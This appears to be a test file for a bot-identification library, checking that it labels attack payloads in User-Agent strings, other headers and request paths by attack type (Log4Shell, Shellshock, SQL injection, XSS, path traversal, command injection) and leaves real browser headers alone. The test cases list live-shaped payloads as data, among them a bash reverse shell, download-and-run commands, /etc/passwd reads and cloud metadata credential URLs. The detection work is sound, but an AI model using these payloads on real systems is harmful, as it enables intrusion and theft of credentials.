// Attack probes: a User-Agent that is an attack payload is named by the attack it tries
// (data/README.md "Attack probes"), found through the matcher's one scan; browsers never are.
import { describe, expect, it } from 'vitest';
import { createAccessPolicy, createCatalog, createRobotsRenderer, createEngine, defaultCatalogDocument, ipRangeVerifier, isAttackProbeId, isUnlistedAgentId } from '../../src/index.js';
import { loadIpRangeLists } from '../../src/adapters/node/index.js';
import { costGrowth } from '../helpers/linear-time.js';

const catalog = createCatalog(defaultCatalogDocument);
const idOf = (ua: string) => catalog.matchUserAgent(ua)?.id;
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

describe('attack probes', () => {
  it('names a payload by the attack it tries, alone or after a browser header', () => {
    // Written from each attack's grammar (the CVEs and OWASP pages in data/README.md).
    const cases: [string, string][] = [
      ['${jndi:ldap://198.51.100.7:1389/a}', 'log4shell'],
      ['${${lower:j}ndi:${lower:r}mi://acme.example/x}', 'log4shell'],
      ['${${::-j}${::-n}${::-d}${::-i}:dns://acme.example/}', 'log4shell'],
      ['() { :; }; /bin/bash -c "id"', 'shellshock'],
      ['<!--#exec cmd="ls" -->', 'server-side-include'],
      [`${CHROME}<esi:include src="http://acme.example/"/>`, 'server-side-include'],
      ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>', 'xml-injection'],
      ['{{7*7}}', 'template-injection'],
      ['<%= 7 * 7 %>', 'template-injection'],
      ["';print(md5(1234));$a='", 'code-injection'],
      ['<?php system($_GET[1]); ?>', 'code-injection'],
      [`${CHROME}"><script>alert(1)</script>`, 'cross-site-scripting'],
      ['javascript:alert(document.domain)', 'cross-site-scripting'],
      [`${CHROME}%22%3E%3Cscript%3Ealert(1)%3C/script%3E`, 'cross-site-scripting'],
      ["' OR '1'='1", 'sql-injection'],
      [`${CHROME}' AND 4321=4321-- x`, 'sql-injection'],
      ['1 UNION ALL SELECT NULL,NULL,version()--', 'sql-injection'],
      ['(select convert(int,CHAR(65)))', 'sql-injection'],
      ['1 AND SLEEP(5)', 'sql-injection'],
      ['-1/**/or/**/2=2', 'sql-injection'],
      [`${CHROME} ORDER BY 3--`, 'sql-injection'],
      ['$(nslookup x1.acme.example)', 'command-injection'],
      [`${CHROME}|| ping -c 3 127.0.0.1`, 'command-injection'],
      ['a; cat /etc/issue', 'command-injection'],
      ['../../../../windows/win.ini', 'path-traversal'],
      ['..%2f..%2f..%2fetc%2fpasswd', 'path-traversal'],
      ['....//....//etc/hosts', 'path-traversal'],
      [`../${CHROME}`, 'path-traversal'],
      ['php://filter/convert.base64-encode/resource=index.php', 'path-traversal'],
      // Lookups of Apache Commons Text (CVE-2022-42889), counted with Log4Shell's.
      ['${url:UTF-8:https://acme.example/}', 'log4shell'],
      ['${T(java.lang.Runtime).getRuntime().exec("id")}', 'template-injection'],
      ['<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}', 'template-injection'],
      ['{${phpinfo()}}', 'code-injection'],
      ['a;id', 'command-injection'],
      ['x|/usr/bin/id', 'command-injection'],
      ['%0aid%0a', 'command-injection'],
      ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'command-injection'],
      ['wget http://192.0.2.1/x -O /tmp/x; chmod 777 /tmp/x; /tmp/x', 'command-injection'],
      ['DELETE FROM users;--', 'sql-injection'],
      // Percent-encoded once or twice, and the encodings servers once decoded wrongly.
      ['1%27%20OR%20%271%27%3D%271', 'sql-injection'],
      ['%2524%257Bjndi%253Aldap%253A%252F%252Facme.example%252Fa%257D', 'log4shell'],
      ['..%c0%af..%c0%afetc%c0%afpasswd', 'path-traversal'],
      ['/var/log/nginx/access.log', 'path-traversal'],
      ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'request-forgery'],
      ['http://metadata.google.internal/computeMetadata/v1/', 'request-forgery'],
      [`${CHROME}%0d%0aSet-Cookie:%20session=x`, 'crlf-injection'],
      // Shapes real tools send (sqlmap's stacked query and condition, shell commands after "|").
      [`${CHROME}';IF(1234=5678) SELECT 1234 ELSE DROP FUNCTION abcd--`, 'sql-injection'],
      ['IIF(1234=5678,1234,1/0)', 'sql-injection'],
      ['|ls -la', 'command-injection'],
      ['|netstat -an', 'command-injection'],
      ['*)(|(objectClass=*))', 'ldap-injection'],
      ["exec('whoami')", 'code-injection'],
      ['{$_REQUEST["x"]}', 'code-injection'],
      ['\\nwhoami\\n', 'command-injection'],
      ['admin)(&)', 'ldap-injection'],
      ['C:\\inetpub\\wwwroot\\web.config', 'path-traversal'],
      [`${CHROME}'abcd<'">efgh`, 'cross-site-scripting'],
      // Shapes an outside audit with sqlmap, wfuzz and wapiti found unnamed: an empty-string
      // tautology, a numeric one ended by a comment, sqlmap's heuristic run of quotes and
      // parentheses, a Windows path with forward slashes, a paragraph tag, a download after "; ".
      ["' or ''='", 'sql-injection'],
      ["1' or 1 --", 'sql-injection'],
      [`${CHROME}'"(.)).)),`, 'sql-injection'],
      ['C:/inetpub/wwwroot/global.asa', 'path-traversal'],
      ['">xxx<P>yyy', 'cross-site-scripting'],
      ['; wget http://acme.example/x.sh', 'command-injection'],
      ['; curl -s http://acme.example/x.sh', 'command-injection'],
    ];
    for (const [ua, kind] of cases) expect({ ua, id: idOf(ua) }).toEqual({ ua, id: `probe:${kind}` });
  });

  it('the payload wins over the product the header borrows, but a scanner that names itself keeps its name', () => {
    expect(idOf("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' OR 1=1--")).toBe('probe:sql-injection');
    expect(idOf('curl/8.5.0 ${jndi:ldap://acme.example/a}')).toBe('probe:log4shell');
    expect(idOf('AcmeBot/1.0 () { :;}; echo; /bin/id')).toBe('probe:shellshock');
    expect(idOf("sqlmap/1.8 (https://sqlmap.org)' AND 1=1-- x")).toBe('sqlmap');
    expect(idOf('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:../../etc/passwd)')).toBe('nikto');
  });

  it('never names a real header whose bytes look like a payload\'s', () => {
    const headers = [
      // Locales and device names after ";": Indonesian "id", a Cat phone, an old MSIE update.
      'Mozilla/5.0 (Linux; U; Android 4.0.4; id; Axioo_PICOpad_GIM Build/IMM76D) AppleWebKit/528.5+ (KHTML, like Gecko) Version/3.1.2 Mobile Safari/525.20.1 UCBrowser/8.7.0.315',
      'Mozilla/5.0 (Linux; Android 4.0.4; Cat Tablet Android 4.0.4 Build/IMM76D) AppleWebKit/535.19 (KHTML, like Gecko) Chrome/18.0.1025.166 Safari/535.19',
      'Mozilla/2.0 (compatible; MSIE 3.02; Update a; AOL 3.0; Windows 95)',
      // Unfilled placeholders are broken clients, not attacks.
      'Mozilla/5.0 (Linux; Android 4.4.2; xx; ${ro.product.subbrand} ${ro.product.submodel} Build/E0005.00) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/30.0.0.0 Mobile Safari/537.36',
      '{{.custom_user_agent}}',
      // A smart TV's CE-HTML profile list: XML with attributes, no script.
      'HbbTV/1.1.1 (;Acme;S-100;1.0.0;;) CE-HTML/1.0 (<profilelist><ui_profile name="HYBRID_UIPROF_0.1"><ext><hscroll>true</hscroll></ext></ui_profile></profilelist>)',
      'Mozilla/5.0 (Linux; U; Android 9; id-id; Redmi 7 Build/PKQ1.181021.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/71.0.3578.141 Mobile Safari/537.36 XiaoMi/MiuiBrowser/12.1.5-g dir=ltr&id=7',
      // A crawler's header as its own logging wrote it, a backslash and "n" inside.
      'Baiduspider-image+(+http://www.baidu.com/search/spider.htm)\\nReferer: http://image.baidu.com/i?ct=503316480',
      // A key=value app header whose keys look like commands after ";" ("ls=DAM").
      'label=acmeapp;anv=Acme4.0.1;os=Android 4.0.4;man=HTC;cs=yes;is=yes;ls=DAM;',
      // A script's function, not a bash definition; a tag-like word that is no tag.
      'Mozilla/5.0 (compatible; Acme/1.0; +https://acme.example/?q=function(){return 1})',
      'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0 <script-blocker>',
      // Quotes, "=" and "&" in app headers; "select", "union" and "script" as ordinary words.
      `${CHROME} [FBAN/FBIOS;FBAV/450.0.0.38.108;FBBV/560846037;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]`,
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 app="News" version="5.2"',
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Select Union/2.1 Script',
      'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; Media Center PC 6.0; .NET4.0C; .NET4.0E) & more',
      // The download tools by name, and quotes with parentheses in an app's own comment.
      'Wget/1.21.4',
      'curl/8.5.0',
      `${CHROME} AcmeApp/1.0 ("beta", 'x64') (build 12.3)`,
    ];
    for (const ua of headers) expect({ ua, probe: isAttackProbeId(idOf(ua) ?? '') }).toEqual({ ua, probe: false });
  });

  it('costs time linear in the header, whatever a crafted payload repeats', () => {
    for (const unit of ['union /*', "' or 1", '${', '{', '() {', 'select ', '{{7', '<!--#', 'case when ', '../', "' + function(", '%25', '%3c', ';id', 'wget ']) {
      expect({ unit, linear: costGrowth(idOf, unit) < 24 }).toEqual({ unit, linear: true });
    }
  });

  it('costs time linear in a run of spaces after the start of a rule, wherever optional tokens sit in it', () => {
    // A run of spaces that two \s* with an optional token between could split every way: "' or a"
    // then 16,000 spaces took minutes in the tautology rule before each token took its own spaces.
    for (const prefix of ["' or a", "' and", '` or', "' +", 'require', '<', "' or not"]) {
      for (const unit of [' ', '\t']) expect({ prefix, unit, linear: costGrowth(idOf, unit, prefix, ')') < 24 }).toEqual({ prefix, unit, linear: true });
    }
    // A run of encoded line breaks (the CRLF rule tried the run from each escape), and a run of dots
    // in a host after a borrowed crawler token (its trailing dots were trimmed by /\.+$/).
    for (const [prefix, unit, suffix] of [['', '%0d', '!'], ['', '%0a', '!'], ['Googlebot/2.1 www.a', '.', 'x'], ['Googlebot/2.1 +http://a', '.', 'x']] as const) {
      expect({ prefix, unit, linear: costGrowth(idOf, unit, prefix, suffix) < 24 }).toEqual({ prefix, unit, linear: true });
    }
  });

  it('its id names it again, it is outside the catalog and robots.txt, and identification says not verifiable', async () => {
    const agent = catalog.matchUserAgent('${jndi:ldap://acme.example/a}')!;
    expect(catalog.getAgent('probe:log4shell')).toBe(agent);
    expect({ type: agent.type, operator: agent.operator, tokens: agent.robots_tokens, listed: !isUnlistedAgentId(agent.id) }).toEqual({ type: 'Security Scanner', operator: 'Unknown', tokens: [], listed: false });
    expect(catalog.agents.some((a) => a.id.startsWith('probe:'))).toBe(false);
    expect(catalog.getAgent('probe:nothing')).toBeUndefined();
    await expect(createEngine().identify({ id: 'r1', request_headers: { 'user-agent': "' OR '1'='1" } })).resolves.toEqual({
      id: 'r1',
      result: 'not_verifiable',
      agent_id: 'probe:sql-injection',
      agent_token: '',
      agent_url: 'https://owasp.org/www-community/attacks/SQL_Injection',
      agent_type_name: 'Security Scanner',
      operator_name: 'Unknown',
    });
    // Off with the unlisted agents: the catalog names only what it lists.
    const strict = createCatalog(defaultCatalogDocument, { unlistedAgents: false });
    expect(strict.matchUserAgent('${jndi:ldap://acme.example/a}')).toBeUndefined();
    expect(strict.getAgent('probe:log4shell')).toBeUndefined();
  });

  it('a policy denying Security Scanners turns probes away, and its robots.txt names none', async () => {
    const engine = createEngine();
    const policy = createAccessPolicy({ denyAgentTypes: ['Security Scanner'], robotsTxt: true }, engine.catalog);
    const identification = await engine.identify({ request_headers: { 'user-agent': `${CHROME}"><svg onload=alert(1)>` } });
    expect(identification).toMatchObject({ agent_id: 'probe:cross-site-scripting' });
    expect(policy.decide(identification)).toMatchObject({ rule: 'deny-agent-type', action: 'deny' });
    // Probes alone, by id: a named scanner the site hired still comes in.
    const probesOnly = createAccessPolicy({ denyAgents: ['probe:log4shell', 'probe:cross-site-scripting'] }, engine.catalog);
    expect(probesOnly.decide(identification)).toMatchObject({ rule: 'deny-agent', action: 'deny' });
    expect(probesOnly.decide(await engine.identify({ request_headers: { 'user-agent': 'sqlmap/1.8 (https://sqlmap.org)' } }))).toBeUndefined();
    const robots = createRobotsRenderer(engine.catalog).robotsTxt({ agent_types: ['Security Scanner'] });
    expect(robots).toContain('User-agent: sqlmap');
    for (const kind of ['log4shell', 'shellshock', 'sql-injection', 'cross-site-scripting', 'path-traversal']) {
      const probe = engine.catalog.getAgent(`probe:${kind}`)!;
      expect(robots).not.toContain(probe.id);
      expect(robots).not.toContain(probe.name);
    }
  });

  describe('in the other headers and the path', () => {
    const engine = createEngine({ verifiers: [] });
    const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    const verdictOf = async (headers: Record<string, string>, path?: string) => (await engine.verify({ request_headers: headers, request_path: path })).agent_id;

    it('names a Log4Shell lookup in any header and a Shellshock function that starts one, behind a browser or a borrowed crawler', async () => {
      // The headers scanners spray (their templates' and write-ups' lists: X-Api-Version, Referer, X-Forwarded-For, Cookie...).
      const cases: [Record<string, string>, string][] = [
        [{ 'user-agent': CHROME, 'x-api-version': '${jndi:ldap://198.51.100.7:1389/a}' }, 'probe:log4shell'],
        [{ 'user-agent': CHROME, referer: '${${::-j}${::-n}${::-d}${::-i}:rmi://acme.example/x}' }, 'probe:log4shell'],
        [{ 'user-agent': CHROME, 'x-forwarded-for': '${jndi:dns://acme.example/a}' }, 'probe:log4shell'],
        [{ 'user-agent': CHROME, cookie: 'session=${${lower:j}ndi:ldap://acme.example/a}' }, 'probe:log4shell'],
        [{ 'user-agent': CHROME, referer: '() { :;}; echo; /bin/bash -c "cat /etc/passwd"' }, 'probe:shellshock'],
        [{ 'user-agent': CHROME, cookie: ' () { _; } >_[$($())] { id; }' }, 'probe:shellshock'],
        // A spoofer's Googlebot with a payload beside it is the payload's.
        [{ 'user-agent': GOOGLEBOT, 'x-api-version': '${jndi:ldap://acme.example/a}' }, 'probe:log4shell'],
        // A scanner that names itself keeps its name; a probe in the User-Agent stays what it is.
        [{ 'user-agent': 'sqlmap/1.8 (https://sqlmap.org)', referer: '${jndi:ldap://acme.example/a}' }, 'sqlmap'],
        [{ 'user-agent': "' OR '1'='1", referer: '${jndi:ldap://acme.example/a}' }, 'probe:sql-injection'],
      ];
      for (const [headers, expected] of cases) {
        expect({ headers, id: engine.identifySync({ request_headers: headers }).agent_id }).toEqual({ headers, id: expected });
        // Any case of the header's name, as clients send it.
        const upper = Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toUpperCase(), value]));
        expect({ upper, id: (await engine.identify({ request_headers: upper })).agent_id }).toEqual({ upper, id: expected });
      }
    });

    it('names a Log4Shell lookup in the path or query, as the server decodes it', async () => {
      expect(await verdictOf({ 'user-agent': CHROME }, '/?x=${jndi:ldap://acme.example/a}')).toBe('probe:log4shell');
      expect(await verdictOf({ 'user-agent': CHROME }, '/?x=%24%7Bjndi%3Aldap%3A%2F%2Facme.example%2Fa%7D')).toBe('probe:log4shell');
      expect(await verdictOf({ 'user-agent': CHROME }, '/%2524%257Bjndi:ldap://acme.example/a%257D')).toBe('probe:log4shell');
      expect(await verdictOf({ 'user-agent': CHROME }, '/$%7B$%7B::-j%7Dndi:rmi://acme.example/a%7D')).toBe('probe:log4shell');
      // Other kinds' shapes are ordinary in a path or query (a search for a template, a quote).
      expect(await verdictOf({ 'user-agent': CHROME }, "/search?q={{7*7}}&sort=name'")).toBeUndefined();
      expect(await verdictOf({ 'user-agent': GOOGLEBOT }, '/docs/%7Bid%7D/')).toBe('googlebot');
    });

    it('leaves a request its headers name to verification when only the path holds a lookup: crawlers follow planted links', async () => {
      const verifying = createEngine({ verifiers: [ipRangeVerifier({ lists: loadIpRangeLists() })] });
      const planted = '/search?q=%24%7Bjndi%3Aldap%3A%2F%2Facme.example%2Fa%7D';
      const crawl = (clientIp: string) => verifying.verify({ request_headers: { 'user-agent': GOOGLEBOT }, request_path: planted, client_ip: clientIp });
      // From Google's published range it is Googlebot, verified; from elsewhere verification judges it
      // (by IP ranges alone an address outside them proves nothing: reverse DNS would refuse it).
      expect(await crawl('66.249.66.1')).toMatchObject({ agent_id: 'googlebot', result: 'verified' });
      expect(await crawl('203.0.113.9')).toMatchObject({ agent_id: 'googlebot', result: 'not_verifiable' });
      // A payload in a header still names it, whatever it claims.
      expect(await verifying.verify({ request_headers: { 'user-agent': GOOGLEBOT, 'x-api-version': '${jndi:ldap://acme.example/a}' }, request_path: '/', client_ip: '66.249.66.1' })).toMatchObject({ agent_id: 'probe:log4shell' });
    });

    it('names a payload User-Agent whatever a Signature-Agent claims (anyone can send one), and the signer otherwise', () => {
      const signed = (ua: string) => engine.identifySync({ request_headers: { 'user-agent': ua, 'signature-agent': '"https://chatgpt.com"' } }).agent_id;
      expect(signed('${jndi:ldap://198.51.100.7/a}')).toBe('probe:log4shell');
      expect(signed('() { :;}; /bin/bash -c id')).toBe('probe:shellshock');
      expect(signed(`${CHROME}' OR 1=1--`)).toBe('probe:sql-injection');
      expect(signed(CHROME)).toBe('chatgpt-agent');
      expect(signed(GOOGLEBOT)).toBe('chatgpt-agent');
    });

    it('never names ordinary header values that carry braces, quotes or script', () => {
      const requests: Record<string, string>[] = [
        { 'user-agent': CHROME, cookie: 'prefs={"theme":"dark","q":"() {}"}; consent={stamp:%27-1%27%2Cnecessary:true}' },
        { 'user-agent': CHROME, referer: "https://acme.example/search?q=function() { return 1 }&x=' OR 1=1" },
        { 'user-agent': CHROME, referer: 'https://acme.example/?q=%3Cscript%3Ealert(1)%3C/script%3E' },
        { 'user-agent': CHROME, 'x-template': '${user.name} {{count}}', 'content-type': 'application/json; x={a}' },
        { 'user-agent': CHROME, accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'if-none-match': 'W/"{etag}"' },
        { 'user-agent': GOOGLEBOT, from: 'googlebot(at)googlebot.com', 'x-note': 'a (b) { c }' },
      ];
      for (const headers of requests) {
        const id = engine.identifySync({ request_headers: headers }).agent_id;
        expect({ headers, probe: isAttackProbeId(id ?? '') }).toEqual({ headers, probe: false });
      }
    });

    it('is off with the unlisted agents, and a hand-made catalog without it still serves', () => {
      const strict = createEngine({ verifiers: [], catalog: createCatalog(defaultCatalogDocument, { unlistedAgents: false }) });
      expect(strict.identifySync({ request_headers: { 'user-agent': CHROME, 'x-api-version': '${jndi:ldap://acme.example/a}' } })).toEqual({ result: 'unknown_agent' });
      const { matchRequestProbe: _left, ...handMade } = catalog;
      const plain = createEngine({ verifiers: [], catalog: handMade });
      expect(plain.identifySync({ request_headers: { 'user-agent': GOOGLEBOT, referer: '${jndi:ldap://acme.example/a}' } }).agent_id).toBe('googlebot');
    });

    it('costs time linear in a crafted value', () => {
      const probeOf = (value: string) => catalog.matchRequestProbe!(new Map([['referer', value], ['cookie', value]]), value);
      // Units that start a rule's match without completing it, so each rule reads on.
      for (const unit of ['$ {', '${ a', '${lower', '{ jndi', ' (', '{', '%25', '%7b', '$%7b']) {
        expect({ unit, linear: costGrowth(probeOf, unit) < 24 }).toEqual({ unit, linear: true });
      }
    });
  });
});
